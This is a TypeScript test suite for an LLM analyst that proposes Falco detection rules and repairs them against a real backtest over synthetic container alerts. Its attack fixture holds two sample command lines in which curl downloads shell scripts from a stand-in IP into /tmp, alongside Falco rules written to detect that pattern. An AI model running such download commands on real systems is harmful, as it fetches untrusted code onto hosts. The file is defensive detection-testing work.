/**
 * Rule repair rounds of the LLM analyst: the proposed rule is scored by the
 * real `rules.backtest` handler (src/rules/tools.ts) over real normalized
 * Falco alerts, through an in-process ToolGateway; the model (fake LLM
 * server, real HTTP) repairs it while it misses incident events, is too noisy
 * or does not parse, up to maxRuleRepairRounds.
 */
import assert from 'node:assert/strict';
import { after, before, beforeEach, describe, it } from 'node:test';
import { AnalysisResult, type AnalyseInput } from '../../src/agents/contracts.ts';
import { toEventWire } from '../../src/agents/event-wire.ts';
import { LlmAnalyst } from '../../src/agents/analyse/llm/analyst.ts';
import { staticPromptSource } from '../../src/agents/analyse/llm/builtin-prompt.ts';
import { RULE_REPAIR_SCHEMA_NAME } from '../../src/agents/analyse/llm/rule-repair.ts';
import { normalizeAlert } from '../../src/events/normalize.ts';
import type { NormalizedEvent } from '../../src/events/types.ts';
import type { ToolSpec } from '../../src/llm/types.ts';
import type { ToolCallResult, ToolGateway } from '../../src/mcp/gateway.ts';
import { createRulesBacktest } from '../../src/rules/tools.ts';
import { startFakeLlmServer, type FakeLlmServer, type Reply } from '../support/fake-llm-server.ts';
import {
  answer,
  answerReply,
  clientFor,
  incident,
  messageTexts,
  nonceOf,
  openAiReply,
} from './analyst-support.ts';

const T0 = Date.parse('2024-09-10T20:00:00.000Z');

function alert(i: number, cmdline: string, pod = `shop-${i % 7}`): NormalizedEvent {
  const proc = cmdline.split(' ')[0]!;
  return normalizeAlert({
    time: new Date(T0 + i * 1000).toISOString(),
    rule: 'Process in container',
    priority: 'Notice',
    source: 'syscall',
    hostname: 'node-1',
    tags: ['container'],
    output: `process ${proc} started (command=${cmdline})`,
    output_fields: {
      'evt.type': 'execve',
      'proc.name': proc,
      'proc.cmdline': cmdline,
      'proc.pname': 'sh',
      'container.id': 'abc123def456',
      'container.name': 'web',
      'k8s.ns.name': 'shop',
      'k8s.pod.name': pod,
    },
  });
}

// 2,000 benign events, 100 of them curl health checks (5 %), and the incident: two curl downloads of a script.
const BENIGN = Array.from({ length: 2000 }, (_, i) =>
  alert(
    i,
    i % 20 === 0
      ? 'curl -s http://localhost:8080/healthz'
      : (['nginx -g daemon off;', 'python3 app.py', 'sh -c date'][i % 3] ?? 'true'),
  ),
);
const ATTACK = [
  alert(5000, 'curl -s http://198.51.100.7/x.sh -o /tmp/x.sh', 'web-7d9f'),
  alert(5001, 'curl -s http://198.51.100.7/y.sh -o /tmp/y.sh', 'web-7d9f'),
];
const STORE = [...BENIGN, ...ATTACK];
const ATTACK_IDS = ATTACK.map((e) => e.id);

function input(): AnalyseInput {
  return incident(ATTACK.map(toEventWire));
}

const rule = (condition: string): string => `- rule: Script download in web pod
  desc: curl fetching a shell script
  condition: ${condition}
  output: script download (command=%proc.cmdline container=%container.name)
  priority: WARNING
`;
const GOOD = rule('evt.type = execve and proc.name = curl and proc.cmdline contains ".sh"');
const NOISY = rule('evt.type = execve and proc.name = curl');
const MISSING = rule('evt.type = execve and proc.name = wget');
const INVALID = rule('proc.name = = curl and (');

const BACKTEST_SPEC: ToolSpec = {
  name: 'rules.backtest',
  description: 'Backtest a Falco rule over the stored events',
  parameters: {
    type: 'object',
    properties: {
      rule: { type: 'string' },
      incidentEventIds: { type: 'array' },
      workloadKey: { type: 'string' },
    },
  },
};

/** An in-process ToolGateway whose `rules.backtest` is the real handler over STORE. */
class BacktestGateway implements ToolGateway {
  readonly calls: Record<string, unknown>[] = [];
  readonly #backtest = createRulesBacktest({ events: () => STORE });
  async list(): Promise<ToolSpec[]> {
    return [BACKTEST_SPEC];
  }
  async call(name: string, args: Record<string, unknown>): Promise<ToolCallResult> {
    if (name !== 'rules.backtest') return { isError: true, text: `unknown tool ${name}` };
    this.calls.push(args);
    return { isError: false, text: JSON.stringify(this.#backtest(args)) };
  }
  async close(): Promise<void> {}
}

function analysis(proposedRule: string | null) {
  return answer({
    explanation: `curl fetched a script [event ${ATTACK_IDS[0]}] twice [event ${ATTACK_IDS[1]}].`,
    citedEventIds: ATTACK_IDS,
    proposedRule,
  });
}

function repairReply(kind: 'openai' | 'anthropic', proposedRule: string | null): Reply {
  if (kind === 'openai')
    return openAiReply({ content: JSON.stringify({ proposedRule }) }, { in: 700, out: 90 });
  return {
    kind: 'json',
    body: {
      id: 'msg_01Repair',
      type: 'message',
      role: 'assistant',
      model: 'claude-3-5-haiku-20241022',
      content: [
        { type: 'tool_use', id: 'toolu_repair', name: RULE_REPAIR_SCHEMA_NAME, input: { proposedRule } },
      ],
      stop_reason: 'tool_use',
      stop_sequence: null,
      usage: { input_tokens: 700, output_tokens: 90 },
    },
  };
}

/** The structured-output schema name a request asked for (both wire protocols). */
function schemaNameOf(body: unknown): string | undefined {
  const b = body as {
    response_format?: { json_schema?: { name?: string } };
    tool_choice?: { name?: string };
  };
  return b.response_format?.json_schema?.name ?? b.tool_choice?.name;
}

let server: FakeLlmServer;
before(async () => {
  server = await startFakeLlmServer();
});
after(async () => {
  await server.close();
});
beforeEach(() => {
  server.requests.length = 0;
  server.respond(undefined);
});

async function analyst(
  kind: 'openai' | 'anthropic',
  gateway: ToolGateway | undefined,
  limits: Partial<ConstructorParameters<typeof LlmAnalyst>[0]['limits']> = {},
) {
  return new LlmAnalyst({
    client: await clientFor(server, kind),
    prompts: staticPromptSource(),
    ...(gateway ? { tools: gateway } : {}),
    // No tool loop: these tests are about the rule check, which needs the gateway, not the loop.
    limits: { maxToolRounds: 0, ...limits },
  });
}

describe('LLM analyst: rule repair rounds', () => {
  it('a rule the backtest accepts is kept at once: no repair call', async () => {
    const gateway = new BacktestGateway();
    server.enqueue(answerReply('openai', analysis(GOOD)));
    const out = await (await analyst('openai', gateway)).analyse(input());
    const r = AnalysisResult.parse(out.result);
    assert.equal(r.proposedRule, GOOD);
    assert.equal(server.requests.length, 1);
    assert.equal(r.llmCalls?.length, 1);
    assert.equal(gateway.calls.length, 1);
    assert.deepEqual(gateway.calls[0]?.incidentEventIds, ATTACK_IDS);
    assert.equal(
      gateway.calls[0]?.workloadKey,
      undefined,
      'the baseline is the whole store, as detect judges it',
    );
    assert.equal(out.ruleCheck?.status, 'accepted');
    assert.equal(out.ruleCheck.rounds.length, 0);
    assert.ok(!r.explanation.includes('dropped'));
  });

  for (const kind of ['openai', 'anthropic'] as const) {
    it(`${kind}: a noisy rule is repaired, then accepted; the findings reach the model, examples fenced`, async () => {
      const gateway = new BacktestGateway();
      server.enqueue(answerReply(kind, analysis(NOISY)), repairReply(kind, GOOD));
      const out = await (await analyst(kind, gateway)).analyse(input());
      const r = AnalysisResult.parse(out.result);
      assert.equal(r.degradedReason, undefined);
      assert.equal(r.proposedRule, GOOD);
      assert.equal(out.ruleCheck?.status, 'accepted');
      assert.deepEqual(
        out.ruleCheck.rounds.map((x) => x.outcome),
        ['accepted'],
      );
      assert.equal(server.requests.length, 2);
      assert.equal(r.llmCalls?.length, 2, 'the repair call is recorded like the others');
      assert.equal(gateway.calls.length, 2);

      const repair = server.requests[1]!;
      assert.equal(schemaNameOf(repair.body), RULE_REPAIR_SCHEMA_NAME);
      assert.equal(
        (repair.body as { tools?: { name: string }[] }).tools?.length ?? 0,
        kind === 'anthropic' ? 1 : 0,
      );
      const text = messageTexts(repair).join('\n');
      assert.match(
        text,
        /fired on 100 of 2000 other stored events \(hit rate 5\.000 %; the limit is 0\.100 %\)/,
      );
      const nonce = nonceOf(repair);
      const fenced = new RegExp(
        `<untrusted-data id="backtest-1" nonce="${nonce}">\\n[^<]*ids of other events it fired on: ${BENIGN[0]!.id}`,
      );
      assert.match(text, fenced, 'example ids go to the model inside a fence');
      assert.ok(
        text.includes(`<untrusted-data id="event:${ATTACK_IDS[0]}" nonce="${nonce}">`),
        'events fenced',
      );
      assert.ok(text.includes('proc.name = curl'), 'the rejected rule is shown to the model');
    });
  }

  it('a rule never fixed is dropped after maxRuleRepairRounds, with a note', async () => {
    const gateway = new BacktestGateway();
    server.enqueue(
      answerReply('openai', analysis(NOISY)),
      repairReply('openai', NOISY),
      repairReply('openai', NOISY),
    );
    const out = await (await analyst('openai', gateway, { maxRuleRepairRounds: 2 })).analyse(input());
    const r = AnalysisResult.parse(out.result);
    assert.equal(r.proposedRule, undefined);
    assert.equal(r.analyst, 'llm');
    assert.equal(server.requests.length, 3);
    assert.equal(r.llmCalls?.length, 3);
    assert.equal(gateway.calls.length, 3);
    assert.equal(out.ruleCheck?.status, 'dropped');
    assert.deepEqual(
      out.ruleCheck.rounds.map((x) => x.outcome),
      ['rejected', 'rejected'],
    );
    assert.match(
      r.explanation,
      /The proposed Falco rule was dropped: after 2 repair round\(s\) it still fails: it fired on 100 of 2000/,
    );
    assert.match(r.explanation, /^curl fetched a script/, 'the analysis itself stands');
  });

  it('invalid YAML in a repair answer is a failed round; missed incident ids are named', async () => {
    const gateway = new BacktestGateway();
    server.enqueue(
      answerReply('openai', analysis(MISSING)),
      repairReply('openai', INVALID),
      repairReply('openai', GOOD),
    );
    const out = await (await analyst('openai', gateway, { maxRuleRepairRounds: 2 })).analyse(input());
    const r = AnalysisResult.parse(out.result);
    assert.equal(r.proposedRule, GOOD);
    assert.deepEqual(
      out.ruleCheck?.rounds.map((x) => x.outcome),
      ['invalid_yaml', 'accepted'],
    );
    assert.equal(gateway.calls.length, 2, 'an invalid rule is not backtested');
    const first = messageTexts(server.requests[1]!).join('\n');
    assert.ok(
      first.includes(`it missed 2 of the incident's 2 stored events (ids: ${ATTACK_IDS.join(', ')})`),
      'missed incident event ids are named',
    );
    const second = messageTexts(server.requests[2]!).join('\n');
    assert.match(second, /the rule does not validate/);
    assert.match(second, /<untrusted-data id="backtest-2" nonce="[a-f0-9]+">\nline \d+/);
  });

  it('maxRuleRepairRounds 0: the rule is scored, and dropped when it fails, with no repair call', async () => {
    const gateway = new BacktestGateway();
    server.enqueue(answerReply('openai', analysis(NOISY)));
    const out = await (await analyst('openai', gateway, { maxRuleRepairRounds: 0 })).analyse(input());
    const r = AnalysisResult.parse(out.result);
    assert.equal(server.requests.length, 1);
    assert.equal(gateway.calls.length, 1);
    assert.equal(r.proposedRule, undefined);
    assert.match(r.explanation, /repair rounds are off/);
  });

  it('repair rounds count against the token budget', async () => {
    const gateway = new BacktestGateway();
    // The analysis answer alone (900 + 120 tokens) spends a 1,000-token budget: no room to repair.
    server.enqueue(answerReply('openai', analysis(NOISY)));
    const out = await (await analyst('openai', gateway, { maxTotalTokens: 1000 })).analyse(input());
    assert.equal(server.requests.length, 1);
    assert.equal(out.result.proposedRule, undefined);
    assert.match(out.result.explanation, /token budget is spent after 0 repair round/);
  });

  it('a repair call that fails (provider error) drops the rule; the analysis stands', async () => {
    const gateway = new BacktestGateway();
    server.enqueue(answerReply('openai', analysis(NOISY)), {
      kind: 'json',
      status: 400,
      body: { error: { message: 'bad' } },
    });
    const out = await (await analyst('openai', gateway)).analyse(input());
    assert.equal(out.result.analyst, 'llm');
    assert.equal(out.result.degradedReason, undefined);
    assert.equal(out.result.proposedRule, undefined);
    assert.match(out.result.explanation, /the rule check stopped/);
    assert.equal(out.result.llmCalls?.length, 2);
  });

  it('a repair answer that is not JSON is a failed round, and the model is told why', async () => {
    const gateway = new BacktestGateway();
    server.enqueue(
      answerReply('openai', analysis(NOISY)),
      openAiReply({ content: 'Sure! Here is the rule: proc.name = curl' }),
      repairReply('openai', GOOD),
    );
    const out = await (await analyst('openai', gateway)).analyse(input());
    assert.equal(out.result.proposedRule, GOOD);
    assert.deepEqual(
      out.ruleCheck?.rounds.map((x) => x.outcome),
      ['invalid_answer', 'accepted'],
    );
    assert.match(messageTexts(server.requests[2]!).join('\n'), /your answer is not JSON/);
  });

  it('repair rounds count against the time budget: a hanging repair call drops the rule, not the analysis', async () => {
    const gateway = new BacktestGateway();
    server.enqueue(answerReply('openai', analysis(NOISY)), { kind: 'hang' });
    const out = await (await analyst('openai', gateway, { timeoutMs: 1500 })).analyse(input());
    assert.equal(out.result.analyst, 'llm');
    assert.equal(out.result.degradedReason, undefined);
    assert.equal(out.result.proposedRule, undefined);
    assert.match(out.result.explanation, /the rule check stopped: LLM analysis timed out after 1500 ms/);
    assert.equal(out.result.llmCalls?.length, 2);
  });

  it('a backtest that cannot run keeps the parser-validated rule unscored', async () => {
    const broken: ToolGateway = {
      list: async () => [],
      call: async () => ({ isError: true, text: 'no tool rules.backtest' }),
      close: async () => {},
    };
    server.enqueue(answerReply('openai', analysis(NOISY)));
    const out = await (await analyst('openai', broken)).analyse(input());
    assert.equal(out.result.proposedRule, NOISY);
    assert.equal(out.ruleCheck?.status, 'unscored');
  });

  it('without a gateway, behaviour is unchanged: the parseable rule is kept unscored', async () => {
    server.enqueue(answerReply('openai', analysis(NOISY)));
    const out = await (await analyst('openai', undefined)).analyse(input());
    assert.equal(out.result.proposedRule, NOISY);
    assert.equal(out.ruleCheck, undefined);
    assert.equal(server.requests.length, 1);
  });
});
